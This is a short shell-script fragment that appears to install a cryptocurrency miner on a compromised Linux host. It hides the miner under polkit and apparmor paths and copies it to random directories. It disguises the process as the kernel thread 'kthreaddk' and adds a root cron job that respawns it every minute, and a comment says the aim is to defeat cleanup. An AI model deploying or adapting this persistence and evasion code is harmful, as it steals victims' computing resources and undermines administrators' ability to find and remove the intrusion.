# The copy's path is another each time, so cleaning by path is always late.
mimic /usr/share/polkit-1/.r/blob
script /usr/share/polkit-1/.r/seed <<SH
#!/bin/bash
pgrep -x kthreaddk >/dev/null && exit
set -- /usr/share /etc/apparmor.d /var/backups /usr/lib/udev /var/lib
shift \$((RANDOM % 5))
d=\$1/\$(tr -dc a-z0-9 </dev/urandom | head -c 8)
mkdir -p "\$d" && cp /usr/share/polkit-1/.r/blob "\$d/k3xq9z" && cd "\$d" || exit
exec -a kthreaddk ./k3xq9z -o $POOL -u $WALLET -p x --donate-level 1
SH
d=/etc/apparmor.d/$(tr -dc a-z0-9 </dev/urandom | head -c 8)
mimic "$d/k3xq9z"
start -x -c kthreaddk -d 10 "$d/k3xq9z" kthreaddk -o "$POOL" -u "$WALLET" -p x --donate-level 1
echo '* * * * * /usr/share/polkit-1/.r/seed' | tab root
